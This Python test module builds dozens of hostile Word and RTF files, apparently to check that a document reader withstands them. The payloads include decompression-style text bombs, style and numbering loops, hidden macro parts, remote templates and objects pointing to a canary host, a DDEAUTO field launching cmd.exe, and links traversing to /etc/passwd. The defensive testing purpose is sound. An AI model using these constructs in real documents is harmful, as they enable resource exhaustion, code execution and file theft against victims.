"""Threats of Word's own constructs: counts that explode, loops, macros, references outside."""

from __future__ import annotations

from collections.abc import Callable, Mapping

from tests.support_docx import box, field, members, para, relationship, run, table
from tests.support_files import MACRO, SHEET, W, body_xml, docx_parts, paragraph, zipped
from tests.threats import MB, TEXT, Scene, Threat, bytes_of, noise

_STRICT = "http://purl.oclc.org/ooxml/wordprocessingml/main"
_STRICT_REL = "http://purl.oclc.org/ooxml/officeDocument/relationships/officeDocument"
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"


def _packed(files: Mapping[str, str | bytes]) -> bytes:
    return zipped({name: p.encode() if isinstance(p, str) else p for name, p in files.items()})


def _word(body: str, *, rels: str = "", files: Mapping[str, bytes] | None = None,
          **parts: str) -> bytes:  # fmt: skip
    """A Word file with one honest paragraph and this body; ``files`` are further members."""
    return _packed(members(para(TEXT) + body, rels=rels, **parts) | dict(files or {}))


def _kind(content_type: str, document: bytes = b"") -> bytes:
    return zipped(docx_parts(document or body_xml(paragraph(TEXT)), content_type))


def _strict(_: Scene) -> bytes:
    parts = docx_parts(body_xml(paragraph(TEXT)).replace(W.encode(), _STRICT.encode()))
    parts["_rels/.rels"] = parts["_rels/.rels"].replace(_REL.encode(), _STRICT_REL.encode())
    return zipped(parts)


def _spans(value: str, name: str = "gridSpan") -> str:
    return table(
        f'<w:tr><w:tc><w:tcPr><w:{name} w:val="{value}"/></w:tcPr>{para("格")}</w:tc></w:tr>'
    )


def _skipped(value: str) -> str:
    properties = f'<w:trPr><w:gridBefore w:val="{value}"/><w:gridAfter w:val="{value}"/></w:trPr>'
    return table(f"<w:tr>{properties}<w:tc>{para('格')}</w:tc></w:tr>")


def _merged(s: Scene) -> bytes:
    rows = f"<w:tr><w:tc><w:tcPr><w:vMerge/></w:tcPr>{para('格')}</w:tc></w:tr>"
    return _word(table(*[rows] * s.size(3000, 30_000)))


def _nested(levels: int) -> bytes:
    inner = para("格")
    for _ in range(levels):
        inner = table(f"<w:tr><w:tc>{inner}</w:tc></w:tr>")
    return _word(inner)


def _boxes(levels: int) -> str:
    inner = para("框")
    for _ in range(levels):
        inner = para(box(inner))
    return inner


def _fields(s: Scene) -> bytes:
    inner = run("果")
    for _ in range(s.size(300, 3000)):
        inner = field("REF x", inner)
    return _word(para(inner))


def _unclosed(s: Scene) -> bytes:
    begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    return _word(para(begin * s.size(10_000, 200_000)))


def _style(name: str, based_on: str) -> str:
    return (f'<w:style w:type="paragraph" w:styleId="{name}"><w:name w:val="{name}"/>'
            f'<w:basedOn w:val="{based_on}"/></w:style>')  # fmt: skip


def _style_loop(_: Scene) -> bytes:
    body = para("环", properties='<w:pStyle w:val="a"/>')
    return _word(body, styles=_style("a", "b") + _style("b", "a"))


def _style_chain(s: Scene) -> bytes:
    count = s.size(3000, 30_000)
    body = para("链", properties='<w:pStyle w:val="s0"/>')
    return _word(body, styles="".join(_style(f"s{n}", f"s{n + 1}") for n in range(count)))


def _list(text: str, start: str = "1", kind: str = "decimal") -> str:
    level = (f'<w:lvl w:ilvl="0"><w:start w:val="{start}"/><w:numFmt w:val="{kind}"/>'
             f'<w:lvlText w:val="{text}"/></w:lvl>')  # fmt: skip
    return (f'<w:abstractNum w:abstractNumId="0">{level}</w:abstractNum>'
            '<w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num>')  # fmt: skip


_NUMBERED = '<w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr>'


def _label_bomb(s: Scene) -> bytes:
    """A label of 100,000 signs on every paragraph: little in the file, gigabytes as text."""
    many = para("项", properties=_NUMBERED) * s.size(3_000, 20_000)
    return _word(many, numbering=_list("甲" * 100_000))


def _label_places(s: Scene) -> bytes:
    many = para("项", properties=_NUMBERED) * s.size(3_000, 20_000)
    return _word(many, numbering=_list("%1" * 50_000, "4999", "lowerRoman"))


def _number_start(kind: str) -> Callable[[Scene], bytes]:
    def make(_: Scene) -> bytes:
        body = para("项", properties=_NUMBERED) * 3
        return _word(body, numbering=_list("%1.", "9" * 30, kind))

    return make


def _numbering_loop(_: Scene) -> bytes:
    link = '<w:numStyleLink w:val="L"/>'
    numbering = (f'<w:abstractNum w:abstractNumId="0">{link}</w:abstractNum>'
                 '<w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num>')  # fmt: skip
    style = f'<w:style w:type="numbering" w:styleId="L"><w:pPr>{_NUMBERED}</w:pPr></w:style>'
    return _word(para("项", properties=_NUMBERED), numbering=numbering, styles=style)


def _footnotes(s: Scene) -> bytes:
    """One long note that is referred to again and again, and to itself."""
    mark = '<w:r><w:footnoteReference w:id="2"/></w:r>'
    note = f'<w:footnote w:id="2">{para(run("注" * 200_000) + mark)}</w:footnote>'
    return _word(para(mark * s.size(2_000, 100_000)), footnotes=note)


def _smart_art(s: Scene) -> bytes:
    """One diagram of a megabyte that is shown thousands of times."""
    shown = ('<w:r><w:drawing><wp:inline><a:graphic><a:graphicData><dgm:relIds r:dm="d"/>'
             "</a:graphicData></a:graphic></wp:inline></w:drawing></w:r>")  # fmt: skip
    name = "http://schemas.openxmlformats.org/drawingml/2006/"
    data = (f'<dgm:dataModel xmlns:dgm="{name}diagram" xmlns:a="{name}main"><dgm:ptLst><dgm:pt>'
            f"<dgm:t><a:p><a:r><a:t>{'图' * 300_000}</a:t></a:r></a:p></dgm:t></dgm:pt>"
            "</dgm:ptLst></dgm:dataModel>").encode()  # fmt: skip
    rels = relationship("d", "diagramData", "d.xml")
    return _word(para(shown) * s.size(1_000, 20_000), rels=rels, files={"word/d.xml": data})


def _chunks(s: Scene) -> bytes:
    page = f"<html><p>{'页' * 300_000}</p></html>".encode()
    rels = relationship("h", "aFChunk", "h.html")
    many = '<w:altChunk r:id="h"/>' * s.size(1_000, 20_000)
    return _word(many, rels=rels, files={"word/h.html": page})


def _chunk_of_itself(_: Scene) -> bytes:
    return _word('<w:altChunk r:id="h"/>', rels=relationship("h", "aFChunk", "document.xml"))


def _headers(s: Scene) -> bytes:
    head = f'<w:hdr xmlns:w="{W}">{para("眉" * 300_000)}</w:hdr>'.encode()
    section = '<w:sectPr><w:headerReference w:type="default" r:id="h"/></w:sectPr>'
    return _word(para("节", properties=section) * s.size(1_000, 30_000),
                 rels=relationship("h", "header", "h.xml"), files={"word/h.xml": head})  # fmt: skip


def _outside(kind: str, use: str) -> Callable[[Scene], bytes]:
    """A relationship to the canary, and what uses it."""

    def make(s: Scene) -> bytes:
        return _word(use, rels=relationship("out", kind, f"{s.address}/{kind}", "External"))

    return make


_PICTURE = ('<w:p><w:r><w:drawing><wp:inline><a:graphic><a:graphicData><pic:pic><pic:blipFill>'
            '<a:blip r:link="out"/></pic:blipFill></pic:pic></a:graphicData></a:graphic>'
            "</wp:inline></w:drawing></w:r></w:p>")  # fmt: skip
_OBJECT = ('<w:p><w:r><w:object><o:OLEObject Type="Link" ProgID="Word.Document" r:id="out"/>'
           "</w:object></w:r></w:p>")  # fmt: skip


def _template(s: Scene) -> bytes:
    files = members(para(TEXT), settings='<w:attachedTemplate r:id="t"/>')
    uri = "http://schemas.openxmlformats.org/package/2006/relationships"
    link = relationship("t", "attachedTemplate", f"{s.address}/a.dotm", "External")
    files["word/_rels/settings.xml.rels"] = f'<Relationships xmlns="{uri}">{link}</Relationships>'
    return _packed(files)


def _share(s: Scene) -> bytes:
    host = s.address.removeprefix("http://")
    link = relationship("out", "attachedTemplate", f"file://{host}/share/a.dotm", "External")
    return _word("", rels=link)


def _target(target: str, kind: str = "hyperlink") -> Callable[[Scene], bytes]:
    use = f'<w:p><w:hyperlink r:id="x">{run("链接")}</w:hyperlink></w:p>'
    return lambda _: _word(use, rels=relationship("x", kind, target))


def _macro_part(_: Scene) -> bytes:
    """A macro part beside a document that is declared as a plain one."""
    files = members(para(TEXT), rels=relationship("v", "vbaProject", "vbaProject.bin"))
    types = str(files["[Content_Types].xml"])
    declared = '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    rels = "application/vnd.openxmlformats-package.relationships+xml"
    declared += f'<Default Extension="rels" ContentType="{rels}"/>'
    files["[Content_Types].xml"] = types.replace("<Default ", declared + "<Default ", 1)
    return _packed(files | {"word/vbaProject.bin": noise(999)})


def _field_outside(instruction: str) -> Callable[[Scene], bytes]:
    def make(s: Scene) -> bytes:
        code = instruction.format(web=s.address, file=s.secret).replace('"', "&quot;")
        return _word(para(field(code, run("旧文"))))

    return make


def _rtf(s: Scene) -> bytes:
    picture = f'{{\\field{{\\*\\fldinst INCLUDEPICTURE "{s.address}/p.png" \\\\d}}{{\\fldrslt x}}}}'
    return f"{{\\rtf1\\ansi {picture} text of a draft}}".encode()


def _w(name: str, expect: str, make: Callable[[Scene], bytes], suffix: str = ".docx") -> Threat:
    return Threat(name, expect, bytes_of(make), suffix)


_DEL = f'<w:p><w:del w:id="1">{run("删去")}</w:del></w:p>'
THREATS = (
    _w("grid_span_200000000", "read|hostile_xml", lambda _: _word(_spans("200000000"))),
    _w("grid_span_negative", "read|hostile_xml", lambda _: _word(_spans("-5"))),
    _w("grid_span_not_a_number", "read", lambda _: _word(_spans("甲"))),
    _w("grid_before_200000000", "read|hostile_xml", lambda _: _word(_skipped("200000000"))),
    _w("merged_3000_rows", "read", _merged),
    _w("tables_nested_35", "read", lambda _: _nested(35)),
    _w("tables_nested_200", "hostile_xml", lambda _: _nested(200)),
    _w("text_boxes_nested", "read|hostile_xml", lambda _: _word(_boxes(6))),
    _w("fields_nested", "read", _fields),
    _w("fields_never_closed", "read", _unclosed),
    _w("styles_in_a_ring", "read", _style_loop),
    _w("styles_in_a_chain", "read|hostile_xml", _style_chain),
    _w("label_of_100000_signs", "read|hostile_xml|out_of_memory", _label_bomb),
    _w("label_of_50000_places", "read|hostile_xml|out_of_memory", _label_places),
    _w("number_start_decimal", "read", _number_start("decimal")),
    _w("number_start_roman", "read", _number_start("lowerRoman")),
    _w("number_start_letters", "read", _number_start("upperLetter")),
    _w("number_start_chinese", "read", _number_start("chineseCountingThousand")),
    _w("numbering_in_a_ring", "read", _numbering_loop),
    _w("footnote_again_and_again", "read|hostile_xml|out_of_memory", _footnotes),
    _w("diagram_again_and_again", "read|hostile_xml|out_of_memory", _smart_art),
    _w("chunk_again_and_again", "read|hostile_xml|out_of_memory", _chunks),
    _w("chunk_of_itself", "read", _chunk_of_itself),
    _w("header_again_and_again", "read|hostile_xml|out_of_memory", _headers),
    _w("breaks_100000", "read", lambda s: _word(para("<w:r>" + "<w:br/>" * 100_000 + "</w:r>"))),
    _w("alignment_bogus", "read", lambda _: _word(para("文", properties='<w:jc w:val="bogus"/>'))),
    _w("macros_declared", "macro", lambda _: _kind(MACRO)),
    _w("macros_under_plain_type", "macro", _macro_part),
    _w("template_with_macros", "macro",
       lambda _: _kind("application/vnd.ms-word.template.macroEnabledTemplate.main+xml")),
    _w("template_plain", "read",
       lambda _: _kind("application/vnd.openxmlformats-officedocument."
                       "wordprocessingml.template.main+xml")),
    _w("workbook_called_word", "not_word", lambda _: _kind(SHEET, b"<workbook/>")),
    _w("slides_called_word", "not_word",
       lambda _: _kind("application/vnd.openxmlformats-officedocument."
                       "presentationml.presentation.main+xml", b"<p/>")),
    _w("strict_ooxml", "read", _strict),
    _w("outside_template", "read", _template),
    _w("outside_template_share", "read", _share),
    _w("outside_picture", "read", _outside("image", _PICTURE)),
    _w("outside_object", "read", _outside("oleObject", _OBJECT)),
    _w("outside_chunk", "read", _outside("aFChunk", '<w:altChunk r:id="out"/>')),
    _w("outside_sub_document", "read", _outside("subDocument", '<w:subDoc r:id="out"/>')),
    _w("outside_header", "read", _outside(
        "header", '<w:sectPr><w:headerReference w:type="default" r:id="out"/></w:sectPr>')),
    _w("outside_styles", "read", _outside("styles", "")),
    _w("field_include_text", "read", _field_outside('INCLUDETEXT "{file}"')),
    _w("field_include_picture", "read", _field_outside('INCLUDEPICTURE "{web}/p.png" \\d')),
    _w("field_dde", "read", _field_outside('DDEAUTO c:\\\\windows\\\\cmd.exe "/k {web}"')),
    _w("target_null", "read", _target("NULL")),
    _w("target_top", "read", _target("#_top")),
    _w("target_passwd", "read", _target("../../../../etc/passwd")),
    _w("target_passwd_coded", "read", _target("..%2f..%2f..%2fetc%2fpasswd", "styles")),
    _w("target_file", "read", _target("file:///etc/passwd", "footnotes")),
    _w("target_itself", "read", _target("document.xml", "footnotes")),
    _w("no_text_at_all", "no_text", lambda _: zipped(docx_parts(body_xml("<w:p/>" * 9)))),
    _w("only_deleted_text", "no_text", lambda _: _packed(members(_DEL))),
    _w("only_hidden_text", "no_text",
       lambda _: _packed(members(para(run("藏", "<w:vanish/>"))))),
    _w("only_zero_width", "no_text", lambda _: _packed(members(para("\u200b\u200d\ufeff" * 99)))),
    _w("paragraph_of_3_million", "read|hostile_xml",
       lambda s: _packed(members(para("安" * s.size(900_000, 3_000_000))))),
    _w("long_without_a_stop", "read",
       lambda s: _packed(members(para("（" * s.size(20_000, 200_000))))),
    _w("numbers_without_end", "read",
       lambda s: _packed(members(para("1.2.3" * s.size(20_000, 200_000))))),
    _w("media_not_a_picture", "read",
       lambda s: _word(_PICTURE.replace("r:link", "r:embed"),
                       rels=relationship("out", "image", "media/1.png"),
                       files={"word/media/1.png": noise(s.size(1, 9) * MB)})),
    Threat("rtf_outside_picture", "read", bytes_of(_rtf), ".rtf", office=True),
    Threat("rtf_deep", "read|no_text|conversion_failed|timeout",
           bytes_of(lambda s: b"{\\rtf1 " + b"{" * 100_000 + b"x" + b"}" * 100_001), ".rtf",
           office=True),
)  # fmt: skip
